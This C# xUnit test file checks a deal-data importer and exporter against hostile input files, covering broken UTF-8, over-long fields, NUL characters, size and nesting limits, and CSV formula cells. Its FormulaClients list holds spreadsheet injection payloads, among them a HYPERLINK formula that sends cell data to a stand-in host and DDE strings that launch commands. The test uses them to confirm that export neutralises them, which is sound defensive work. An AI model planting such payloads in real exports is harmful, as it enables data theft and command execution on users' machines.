using System.Diagnostics;
using System.Globalization;
using System.Text;
using CsvHelper;
using Jiedan.Deals.Import;
using Jiedan.Deals.Storage;
using Jiedan.Domain.Deals;
using Jiedan.Testing;
using Microsoft.EntityFrameworkCore;

namespace Jiedan.Deals.Tests.Storage;

/// <summary>Import files that attack the importer: broken encodings, over-long fields, formulas, sheer size and depth.</summary>
public sealed class HostileImportTests
{
    private const string Header = "external_id,client,platform,stage,at,lost_reason\n";

    private static Task<ImportResult> Import(DealsDatabase db, string name, byte[] content, DealImportLimits? limits = null)
    {
        var importer = new DealImporter(db.Get<DealsDbContext>(), db.Get<PipelineSettings>(), TimeProvider.System)
        {
            Limits = limits ?? DealImportLimits.Default,
        };
        return importer.ImportAsync(name, new MemoryStream(content), "test", default);
    }

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static async Task AssertNothingWritten(DealsDatabase db) => Assert.Equal(0, await db.Get<DealsDbContext>().Deals.CountAsync());

    [Theory]
    [InlineData(TestDatabaseKind.Sqlite, "deals.csv")]
    [InlineData(TestDatabaseKind.Postgres, "deals.csv")]
    [InlineData(TestDatabaseKind.Sqlite, "deals.json")]
    public async Task InvalidUtf8_IsAnErrorAtItsLineAndColumn_AndNothingIsWritten(TestDatabaseKind kind, string name)
    {
        await using var db = await DealsDatabase.CreateAsync(kind);
        var text = name.EndsWith(".csv", StringComparison.Ordinal)
            ? Header + "a-1,Acme,Upwork,Lead,2025-03-03,\na-2,杭州X\u0001Y,Upwork,Lead,2025-03-03,\n"
            : "[{\"external_id\":\"a-1\",\"client\":\"Acme\",\"platform\":\"Upwork\",\"stage\":\"Lead\",\"at\":\"2025-03-03\"},\n"
              + "{\"external_id\":\"a-2\",\"client\":\"杭州X\u0001Y\",\"platform\":\"Upwork\","
              + "\"stage\":\"Lead\",\"at\":\"2025-03-03\"}]\n";
        var bytes = Utf8(text);
        bytes[Array.IndexOf(bytes, (byte)1)] = 0xFF;
        var result = await Import(db, name, bytes);
        var error = Assert.Single(result.Errors);
        var (line, column) = name.EndsWith(".csv", StringComparison.Ordinal) ? (3, 8) : (2, 35);
        Assert.Equal($"{name}:{line}:{column}: invalid UTF-8 (save the file as UTF-8)", error.Format(name));
        await AssertNothingWritten(db);
    }

    [Fact]
    public async Task TruncatedUtf8AtTheEnd_IsAnError()
    {
        await using var db = await DealsDatabase.CreateAsync(TestDatabaseKind.Sqlite);
        var bytes = Utf8(Header + "a-1,杭")[..^2];
        var error = Assert.Single((await Import(db, "x.csv", bytes)).Errors);
        Assert.Equal("x.csv:2:5: invalid UTF-8 (save the file as UTF-8)", error.Format("x.csv"));
    }

    [Theory]
    [InlineData(TestDatabaseKind.Sqlite)]
    [InlineData(TestDatabaseKind.Postgres)]
    public async Task OverLongFields_AreRefusedByColumn_AndNothingIsWritten(TestDatabaseKind kind)
    {
        await using var db = await DealsDatabase.CreateAsync(kind);
        var client = new string('c', DealFieldLimits.Client + 1);
        var id = new string('i', DealFieldLimits.ExternalId + 1);
        var reason = new string('r', DealFieldLimits.Reason + 1);
        var result = await Import(db, "long.csv", Utf8(Header
            + $"ok-1,{new string('c', DealFieldLimits.Client)},Upwork,Lead,2025-03-03,\n"
            + $"a-1,{client},Upwork,Lead,2025-03-03,\n{id},Acme,Upwork,Lead,2025-03-03,\nb-1,Beta,Upwork,Lost,2025-03-03,{reason}\n"));
        var messages = result.Errors.Select(e => e.Format("long.csv")).ToList();
        Assert.Equal(
            ["long.csv:3:2: client must be at most 200 characters", "long.csv:4:1: external_id must be at most 64 characters",
             "long.csv:5:6: lost_reason must be at most 1000 characters"],
            messages);
        await AssertNothingWritten(db);
    }

    [Theory]
    [InlineData(TestDatabaseKind.Sqlite)]
    [InlineData(TestDatabaseKind.Postgres)]
    public async Task NulInText_IsRefusedByColumn_OnBothProviders(TestDatabaseKind kind)
    {
        // PostgreSQL cannot store U+0000 (22021); SQLite could, so both refuse it before anything is written.
        await using var db = await DealsDatabase.CreateAsync(kind);
        var result = await Import(db, "nul.json", Utf8(
            """[{"external_id":"a\u0000","client":"Acme","platform":"Upwork","stage":"Lead","at":"2025-03-03"},""" +
            """{"external_id":"b","client":"Ac\u0000me","platform":"Upwork","stage":"Lead","at":"2025-03-03"}]"""));
        var messages = result.Errors.Select(e => e.Format("nul.json")).ToList();
        Assert.Equal(2, messages.Count);
        Assert.Contains("external_id must not contain the NUL character (U+0000)", messages[0], StringComparison.Ordinal);
        Assert.Contains("client must not contain the NUL character (U+0000)", messages[1], StringComparison.Ordinal);
        await AssertNothingWritten(db);
    }

    [Fact]
    public async Task ManyRowsOrBytes_AreRefusedBeyondTheLimits()
    {
        await using var db = await DealsDatabase.CreateAsync(TestDatabaseKind.Sqlite);
        var rows = Header + string.Concat(Enumerable.Range(1, 11).Select(i => $"r-{i},Acme,Upwork,Lead,2025-03-03,\n"));
        var tooMany = await Import(db, "many.csv", Utf8(rows), new DealImportLimits { MaxRows = 10 });
        Assert.Contains("many.csv:12:1: more than 10 rows; split the file", tooMany.Errors.Select(e => e.Format("many.csv")));
        var tooBig = await Import(db, "big.csv", Utf8(rows), new DealImportLimits { MaxBytes = 100 });
        Assert.Equal("big.csv:1:1: the file is larger than 100 bytes; split it", Assert.Single(tooBig.Errors).Format("big.csv"));
        await AssertNothingWritten(db);
    }

    [Fact]
    public async Task HugeCsvField_IsRefusedAtItsRow()
    {
        await using var db = await DealsDatabase.CreateAsync(TestDatabaseKind.Sqlite);
        var huge = new string('x', 1_000_000);
        var result = await Import(db, "huge.csv", Utf8($"{Header}a-1,Acme,Upwork,Lead,2025-03-03,\na-2,{huge},Upwork,Lead,2025-03-03,\n"));
        var error = Assert.Single(result.Errors);
        Assert.Equal((3, "a field longer than 65536 characters or malformed CSV"), (error.Line, error.Reason));
        await AssertNothingWritten(db);
    }

    /// <summary>The limits are the application's; each must fit the column the model declares, or PostgreSQL refuses the row.</summary>
    [Fact]
    public async Task FieldLimits_FitTheDatabaseColumns()
    {
        await using var db = await DealsDatabase.CreateAsync(TestDatabaseKind.Sqlite);
        var model = db.Get<DealsDbContext>().Model;
        int? Max(Type type, string property) => model.FindEntityType(type)!.FindProperty(property)!.GetMaxLength();
        Assert.True(Max(typeof(DealRecord), nameof(DealRecord.Client)) >= DealFieldLimits.Client);
        Assert.True(Max(typeof(DealRecord), nameof(DealRecord.ExternalId)) >= DealFieldLimits.ExternalId);
        // Unbounded text columns: notes, tags, reasons.
        Assert.Null(Max(typeof(DealRecord), nameof(DealRecord.Notes)));
        Assert.Null(Max(typeof(DealRecord), nameof(DealRecord.Tags)));
        Assert.Null(Max(typeof(StageEventRecord), nameof(StageEventRecord.Reason)));
    }

    [Fact]
    public async Task DeeplyNestedJson_IsRefusedQuickly()
    {
        await using var db = await DealsDatabase.CreateAsync(TestDatabaseKind.Sqlite);
        var json = "[{\"client\":" + new string('[', 500_000) + new string(']', 500_000) + "}]";
        var watch = Stopwatch.StartNew();
        var result = await Import(db, "deep.json", Utf8(json));
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(5), $"took {watch.Elapsed}");
        Assert.Contains(result.Errors, e => e.Reason.Contains("depth", StringComparison.Ordinal));
        await AssertNothingWritten(db);
    }

    [Fact]
    public async Task ManyErrors_AreListedUpToTheLimitAndSummarised()
    {
        await using var db = await DealsDatabase.CreateAsync(TestDatabaseKind.Sqlite);
        var rows = Header + string.Concat(Enumerable.Range(1, 50).Select(i => $"r-{i},Acme,Nowhere,Lead,2025-03-03,\n"));
        var result = await Import(db, "bad.csv", Utf8(rows), new DealImportLimits { MaxErrors = 10 });
        Assert.Equal(11, result.Errors.Count);
        Assert.Equal("… and 40 more error(s)", result.Errors[^1].Reason);
    }

    public static TheoryData<TestDatabaseKind> Kinds => [TestDatabaseKind.Sqlite, TestDatabaseKind.Postgres];

    private static readonly string[] FormulaClients =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0",
        "'already quoted", "''=twice", "\"=quoted\"", "plain, with a comma", "Acme \"Ltd\"",
    ];

    [Theory]
    [MemberData(nameof(Kinds))]
    public async Task Export_NeutralisesFormulaCells_AndImportRestoresThem(TestDatabaseKind kind)
    {
        await using var source = await DealsDatabase.CreateAsync(kind);
        static string Json(string value) => System.Text.Json.JsonSerializer.Serialize(value);
        var seed = "[" + string.Join(",\n", FormulaClients.Select((c, i) =>
            $"{{\"external_id\":\"f-{i}\",\"client\":{Json(c)},\"platform\":\"Upwork\",\"stage\":\"Lead\",\"at\":\"2025-03-03\"}},"
            + $"{{\"external_id\":\"f-{i}\",\"client\":{Json(c)},\"platform\":\"Upwork\",\"stage\":\"Lost\",\"at\":\"2025-03-04\","
            + $"\"lost_reason\":{Json("=1+" + c)}}}")) + "]";
        var seeded = await Import(source, "seed.json", Utf8(seed));
        Assert.True(seeded.Succeeded, string.Join("\n", seeded.Errors));

        var exported = await Export(source);
        using (var raw = new CsvReader(new StringReader(exported), CultureInfo.InvariantCulture))
            while (raw.Read())
                for (var i = 0; raw.TryGetField<string>(i, out var cell); i++)
                    Assert.False(cell!.Length > 0 && "=+-@\t\r".Contains(cell[0]), $"formula cell written raw: {cell}");

        await using var target = await DealsDatabase.CreateAsync(kind);
        var imported = await Import(target, "export.csv", Utf8(exported));
        Assert.True(imported.Succeeded, string.Join("\n", imported.Errors));
        var clients = await target.Get<DealsDbContext>().Deals.OrderBy(d => d.ExternalId).Select(d => d.Client).ToListAsync();
        Assert.Equal(FormulaClients.Order(StringComparer.Ordinal), clients.Order(StringComparer.Ordinal));
        Assert.Equal(exported, await Export(target));
    }

    private static async Task<string> Export(DealsDatabase db)
    {
        var writer = new StringWriter();
        await db.Get<DealExporter>().ExportAsync(writer, "csv", new DealQuery(), default);
        return writer.ToString();
    }
}
